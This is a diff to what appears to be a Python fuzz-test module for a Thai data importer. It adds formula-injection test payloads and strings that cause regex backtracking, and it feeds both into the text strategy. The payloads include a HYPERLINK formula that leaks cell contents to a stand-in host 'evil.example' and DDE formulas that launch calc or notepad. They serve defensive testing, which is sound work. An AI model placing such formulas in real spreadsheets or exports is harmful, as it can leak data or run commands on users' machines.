@@ -60,6 +60,21 @@ SQL = [
     "%%%%",
     "\\",
 ]
+# Text a spreadsheet program would run as a formula if a cell held it as it is (formula or
+# "CSV" injection, OWASP): each starts with = + - @, a tab or a carriage return, and goes
+# on in Thai. Error codes (#N/A…) are not formulas but openpyxl would type them as errors.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
+    "=1+1 โครงการพัฒนาคลอง",
+    "+1+cmd|' /C calc'!A0 ข้อความ",
+    "-2+3+cmd|' /C calc'!A0 ปัญหา",
+    "@SUM(1+1)*cmd|' /C calc'!A0 อุปสรรค",
+    "\t=1+1 แท็บนำหน้า",
+    "\r=1+1 ขึ้นบรรทัดนำหน้า",
+    "=cmd|' /C notepad'!'A1' ขั้นตอน",
+    "#N/A",
+    "-",
+]
 ODD_UNICODE = [
     "\x00",
     "abc\x00def",
@@ -101,6 +116,22 @@ HUGE = [
     Big("ก่" * (MEGABYTE // 2)),
     Big("<script>" * 10_000),
     Big("9" * 100_000),
+]
+# Lines that sent the page importer's old patterns backtracking for seconds to minutes
+# (issue 12, item 4): long runs of what sits between two quantifiers, then a character that
+# makes the match fail.
+BACKTRACKING = [
+    Big(":" + " " * 5_000 + "x"),
+    Big(":x" + " " * 20_000 + "x"),
+    Big("*" * 3_000 + "\x01"),
+    Big("**** ก" + " " * 20_000 + "*x"),
+    Big("(1) ความคืบหน้าโครงการฯ ร้อยละ" + " " * 20_000 + "x"),
+    Big("(คลิก)" + " " * 20_000 + "x"),
+    Big("(คลิก) ก" + ":x" * 10_000 + " ก"),
+    Big("ค่าเป้าหมาย" + " " * 20_000 + "x"),
+    Big("ผลงานที่ทำได้" + " " * 20_000 + "x"),
+    Big("สำนักงาน" + " " * 20_000 + "x"),
+    Big("นางสุดา" + " " * 20_000 + "x"),
 ]
 # Typed in a decimal field with two places (percent, score, result), never a number it may
 # take: not finite, not a number, a third decimal place, more digits than the column holds.
@@ -210,7 +241,7 @@ PLAIN_TEXT = st.text(
 
 def texts() -> st.SearchStrategy[str]:
     """Free text: payloads, odd Unicode, huge strings, and random mixes of them."""
-    fixed = st.sampled_from(XSS + SQL + ODD_UNICODE)
+    fixed = st.sampled_from(XSS + SQL + FORMULAS + ODD_UNICODE)
     return st.one_of(
         fixed,
         st.sampled_from(HUGE),
